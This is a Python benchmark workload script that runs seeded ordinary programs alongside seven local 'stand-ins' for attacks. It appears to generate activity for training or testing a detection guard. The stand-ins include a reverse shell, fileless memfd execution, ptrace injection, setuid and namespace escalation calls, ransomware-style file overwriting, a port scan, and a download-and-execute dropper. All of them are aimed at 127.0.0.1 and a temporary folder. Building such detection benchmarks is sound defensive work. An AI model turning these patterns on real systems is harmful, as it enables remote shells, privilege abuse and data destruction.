"""bench/guard/workloads.py SEED RUNS STAND_INS PART PARTS LOG: runs ten programs, and stand-ins for attacks.

For record.py, which asks for one of several parts, from 0, at a time.
Every run differs: what is served, queried, compiled or packed is drawn from the seed. LOG gets a line a run, once it
has ended: program, number, process id, and when it started and ended (nanoseconds, CLOCK_MONOTONIC). All happens in a
folder of its own and on 127.0.0.1; what a stand-in attacks is that folder, a port that we listen on, and itself.
"""

from __future__ import annotations

import contextlib
import http.server
import random
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path
from tempfile import TemporaryDirectory

WORDS = ["amber", "birch", "cedar", "delta", "ember", "fjord", "glade", "heath"]
WORDS += ["inlet", "jetty", "knoll", "larch", "marsh", "notch", "ocean", "pines"]
SYSTEM_PYTHON = "/usr/bin/python3"
Command = tuple[list[str], str]


def shell(pick: random.Random, folder: Path) -> Command:
    """A service of a shell: commands come on standard input."""
    commands = [
        "ls -l",
        "cat notes.txt",
        "echo {word} >> notes.txt",
        "wc -l notes.txt",
        "date",
        "test -f {word}.txt && rm {word}.txt",
        "for name in *.txt; do echo $name; done",
        "sort notes.txt | head -n 3",
        "touch {word}.txt",
        "grep {word} notes.txt",
        "printf '%s\\n' $((RANDOM % 7))",
    ]
    (folder / "notes.txt").write_text("one\ntwo\n")
    lines = [pick.choice(commands).format(word=pick.choice(WORDS)) for _ in range(pick.randint(4, 14))]
    return ["bash", "--norc"], "\n".join([*lines, "exit", ""])


def database(pick: random.Random, folder: Path) -> Command:
    """A client of a database: tables, rows, queries, in and out of transactions."""
    lines = ["create table bees(id integer primary key, name text, weight real);"]
    queries = [
        "insert into bees(name, weight) values('{word}', {number});",
        "select count(*), avg(weight) from bees;",
        "select * from bees where name like '{word}%' order by weight limit 5;",
        "update bees set weight = weight + {number} where name = '{word}';",
        "delete from bees where id = {number};",
        "begin; insert into bees(name) values('{word}'); insert into bees(name) values('x'); commit;",
        "create index if not exists by_name on bees(name);",
        "vacuum;",
    ]
    lines += [
        pick.choice(queries).format(word=pick.choice(WORDS), number=pick.randint(1, 90))
        for _ in range(pick.randint(8, 50))
    ]
    return ["sqlite3", str(folder / "hive.db")], "\n".join([*lines, ".quit", ""])


def compiler(pick: random.Random, folder: Path) -> Command:
    """A compiler: one to three sources, with or without linking."""
    headers = pick.sample(["stdio.h", "stdlib.h", "string.h", "math.h", "time.h", "errno.h", "signal.h"], 3)
    names = pick.sample(WORDS, pick.randint(1, 3))
    for name in names:
        body = "".join(f"int {name}_{i}(int x) {{ return x * {i} + {i % 5}; }}\n" for i in range(pick.randint(3, 60)))
        (folder / f"{name}.c").write_text("".join(f"#include <{header}>\n" for header in headers) + body)
    link = pick.random() < 0.4
    if link:
        (folder / "main.c").write_text("int main(void) { return 0; }\n")
    sources = [f"{name}.c" for name in (*names, *(["main"] if link else []))]
    output = ["-o", "hive"] if link else ["-c"]
    return ["gcc", pick.choice(["-O0", "-O1", "-O2"]), *pick.sample(["-g", "-Wall", "-pipe"], 1), *output, *sources], ""


def packages(pick: random.Random, _folder: Path) -> Command:
    """A package manager: what is installed, what is in it, whose a file is."""
    name = pick.choice(["bash", "libc6", "coreutils", "dpkg", "sed", "tar", "grep", "findutils", "gzip", "perl-base"])
    return pick.choice(
        [
            ["dpkg", "-s", name],
            ["dpkg", "-L", name],
            ["dpkg", "-l", f"{name[:3]}*"],
            ["dpkg", "-S", f"/bin/{name}"],
            ["dpkg", "--verify", name],
            ["dpkg-query", "-W", "-f=${Package} ${Version}\\n"],
        ]
    ), ""


def versions(pick: random.Random, folder: Path) -> Command:
    """A version control system, on a repository made before."""
    git = ["git", "-c", "user.name=bee", "-c", "user.email=bee@localhost", "-C", str(folder)]
    repository = folder.parent / "repository"
    if not repository.exists():
        repository.mkdir()
        first = [*git[:-1], str(repository)]
        subprocess.run([*first, "init", "-q"], check=True)
        for word in WORDS:
            (repository / f"{word}.txt").write_text(f"{word}\n")
            subprocess.run([*first, "add", "."], check=True)
            subprocess.run([*first, "commit", "-q", "-m", word], check=True)
    shutil.copytree(repository, folder, dirs_exist_ok=True)
    (folder / f"{pick.choice(WORDS)}.txt").write_text(str(pick.random()))
    (folder / f"new{pick.randint(1, 9)}.txt").write_text(str(pick.random()))
    return [
        *git,
        *pick.choice(
            [
                ["status", "--short"],
                ["log", "--oneline", "-n", str(pick.randint(1, 16))],
                ["diff"],
                ["add", "."],
                ["commit", "-q", "-a", "-m", pick.choice(WORDS)],
                ["show", "--stat", f"HEAD~{pick.randint(0, 9)}"],
                ["branch", pick.choice(WORDS)],
                ["checkout", "-q", "-b", pick.choice(WORDS)],
                ["grep", pick.choice(WORDS)],
            ]
        ),
    ], ""


def archive(pick: random.Random, folder: Path) -> Command:
    """An archiver, packing or unpacking what was packed before."""
    (folder / "files").mkdir()
    for number in range(pick.randint(3, 30)):
        (folder / "files" / f"{pick.choice(WORDS)}{number}").write_bytes(pick.randbytes(pick.randint(0, 40000)))
    way, end = pick.choice([("", "tar"), ("z", "tar.gz"), ("J", "tar.xz")])
    packed = str(folder / f"all.{end}")
    pack = ["tar", f"-c{way}f", packed, "-C", str(folder), "files"]
    if pick.random() < 0.5:
        return pack, ""
    subprocess.run(pack, check=True)
    (folder / "out").mkdir()
    return pick.choice([["tar", f"-x{way}f", packed, "-C", str(folder / "out")], ["tar", f"-t{way}vf", packed]]), ""


def crypto(pick: random.Random, folder: Path) -> Command:
    """Keys, digests and encrypted files."""
    path = folder / "plain"
    path.write_bytes(pick.randbytes(pick.randint(10, 200000)))
    return [
        "openssl",
        *pick.choice(
            [
                ["genpkey", "-algorithm", "ed25519", "-out", str(folder / "key")],
                ["ecparam", "-name", "prime256v1", "-genkey", "-noout", "-out", str(folder / "key")],
                ["dgst", f"-sha{pick.choice(['256', '512', '1'])}", str(path)],
                ["enc", "-aes-256-cbc", "-pbkdf2", "-k", "bee", "-in", str(path), "-out", str(folder / "cipher")],
                ["rand", "-hex", str(pick.randint(8, 4000))],
                ["base64", "-in", str(path), "-out", str(folder / "text")],
                [
                    "req",
                    "-x509",
                    "-newkey",
                    "ed25519",
                    "-nodes",
                    "-subj",
                    "/CN=bee",
                    "-keyout",
                    str(folder / "key"),
                    "-out",
                    str(folder / "certificate"),
                ],
            ]
        ),
    ], ""


def text(pick: random.Random, folder: Path) -> Command:
    """A script that reads files, counts words and writes a report."""
    for number in range(pick.randint(1, 8)):
        words = " ".join(pick.choices(WORDS, k=pick.randint(5, 4000)))
        (folder / f"{number}.txt").write_text(words)
    script = (
        "use strict; use warnings; use File::Temp; my %count; for my $path (glob('*.txt')) { open(my $in, '<', $path)"
        " or die; while (<$in>) { $count{$_}++ for split } } open(my $out, '>', 'report') or die;"
        ' print $out "$_ $count{$_}\\n" for sort keys %count; close $out;'
    )
    return ["perl", *pick.choice([[], ["-MPOSIX"], ["-MData::Dumper"]]), "-e", script], ""


class _Quiet(http.server.BaseHTTPRequestHandler):
    """Serves a length that the path asks for."""

    def do_GET(self) -> None:
        length = int(self.path.rpartition("/")[2])
        self.send_response(200 if length % 7 else 404)
        self.send_header("Content-Length", str(length))
        self.end_headers()
        self.wfile.write(b"b" * length)

    do_POST = do_GET  # noqa: N815 - the base looks for this name

    def log_message(self, format: str, *arguments: object) -> None:  # noqa: A002 - the base's word
        """Says nothing."""


def fetch(pick: random.Random, folder: Path, port: int) -> Command:
    """A client of the web."""
    places = [f"http://127.0.0.1:{port}/{pick.randint(1, 90000)}" for _ in range(pick.randint(1, 5))]
    more = pick.choice([[], ["-i"], ["-H", "Accept: text/plain"], ["--compressed"], ["-d", "name=bee"], ["-L"]])
    return ["curl", "-s", *more, *(part for place in places for part in ("-o", str(folder / place[-3:]), place))], ""


# What each does, with PORT for ours and COUNT for a number from 5 to 40.
STAND_INS = {
    "shell-back": """
s = socket.create_connection(("127.0.0.1", PORT))
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-c", "id; uname -a; cat /etc/hosts; ls /; seq COUNT | head -n 3"])
""",
    "fileless": """
fd = os.memfd_create("x")
os.write(fd, open("/bin/true", "rb").read())
for _ in range(1 + COUNT // 10):
    if os.fork() == 0: os.execv(f"/proc/self/fd/{fd}", ["true"])
    os.wait()
""",
    "injection": """
if (pid := os.fork()) == 0:
    libc.ptrace(0, 0, 0, 0)
    os.kill(os.getpid(), 19)
    os._exit(0)
os.waitpid(pid, 2)
for i in range(COUNT): libc.ptrace(3, pid, i * 8, 0)
libc.ptrace(7, pid, 0, 0)
os.waitpid(pid, 0)
import mmap
mmap.mmap(-1, 4096, prot=7)
""",
    "escalation": """
open("own", "w").close()
os.chmod("own", 0o4755)
os.chown("own", 65534, 65534)
for _ in range(1 + COUNT // 4): libc.setresuid(-1, -1, -1); libc.capget(0, 0); libc.prctl(38, 0)
os.setgroups([])
os.setgid(65534)
os.setuid(65534)
libc.unshare(0x10000000)
libc.mount(0, b"/nowhere", 0, 0, 0)
libc.setns(-1, 0)
libc.keyctl(0, -3, 0, 0, 0)
""",
    "ransom": """
for i in range(COUNT): open(f"victim{i}", "wb").write(b"x" * 5000)
for name in os.listdir("."):
    if name.startswith("victim"):
        with open(name, "r+b") as f: f.write(os.urandom(5000)); f.flush(); os.fsync(f.fileno())
        os.rename(name, name + ".locked")
""",
    "scan": """
for port in range(PORT - 3, PORT + COUNT):
    s = socket.socket(); s.settimeout(0.2)
    s.connect_ex(("127.0.0.1", port)); s.close()
""",
    "dropper": """
s = socket.create_connection(("127.0.0.1", PORT))
s.send(b"GET /COUNT00 HTTP/1.0\\r\\n\\r\\n")
f = open("drop", "wb")
while (b := s.recv(512)): f.write(b)
f.close()
os.chmod("drop", 0o755)
try: os.execv("./drop", ["drop"])
except OSError: pass
os.unlink("drop")
""",
}


def stand_in(name: str, pick: random.Random, port: int) -> Command:
    """A stand-in for an attack."""
    acts = STAND_INS[name].replace("PORT", str(port)).replace("COUNT", str(pick.randint(5, 40)))
    script = f"import os, socket, ctypes\nlibc = ctypes.CDLL(None)\n{acts}"
    return [SYSTEM_PYTHON, "-S", "-c", script], ""


PROGRAMS: dict[str, Callable[[random.Random, Path], Command]] = {
    "shell": shell,
    "database": database,
    "compiler": compiler,
    "packages": packages,
    "versions": versions,
    "archive": archive,
    "crypto": crypto,
    "text": text,
}


def web_server(pick: random.Random, folder: Path, port: int) -> tuple[int, int]:
    """A web server that answers some requests. Gives its process id and when it had ended."""
    for word in WORDS:
        (folder / f"{word}.html").write_text(word * pick.randint(1, 9000))
    command = [SYSTEM_PYTHON, "-m", "http.server", str(port), "--bind", "127.0.0.1"]
    server = subprocess.Popen(command, cwd=folder, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    for _ in range(200):
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port)):
            break
        time.sleep(0.02)
    for _ in range(pick.randint(3, 30)):
        path = pick.choice(["", "nothing", *(f"{word}.html" for word in WORDS)])
        with contextlib.suppress(OSError):
            urllib.request.urlopen(f"http://127.0.0.1:{port}/{path}", timeout=5).read()
    server.terminate()
    server.wait()
    return server.pid, time.monotonic_ns()


def run(command: Command, folder: Path) -> tuple[int, int]:
    """Runs one to its end. Gives its process id and when it had ended."""
    process = subprocess.Popen(
        command[0], cwd=folder, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    process.communicate(command[1].encode(), timeout=60)
    return process.pid, time.monotonic_ns()


def main() -> None:
    """Runs all, in an order drawn from the seed: no program is recorded on a quieter machine than another."""
    seed, runs, stand_ins, part, parts, log = sys.argv[1:]
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Quiet)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    names = [*PROGRAMS, "fetch", "server"]
    order = [(name, number) for name in names for number in range(int(runs))]
    order += [(name, number) for name in STAND_INS for number in range(int(stand_ins))]
    random.Random(seed).shuffle(order)
    with open(log, "w", encoding="ascii") as lines, TemporaryDirectory() as base:
        for name, number in order[int(part) :: int(parts)]:
            pick = random.Random(f"{seed} {name} {number}")
            folder = Path(base) / "work"
            folder.mkdir()
            if name == "server":
                started = time.monotonic_ns()
                pid, ended = web_server(pick, folder, port + 1)
            else:
                if name in STAND_INS:
                    command = stand_in(name, pick, port)
                else:
                    command = fetch(pick, folder, port) if name == "fetch" else PROGRAMS[name](pick, folder)
                started = time.monotonic_ns()
                pid, ended = run(command, folder)
            lines.write(f"{name} {number} {pid} {started} {ended}\n")
            shutil.rmtree(folder)
    server.shutdown()


if __name__ == "__main__":
    main()
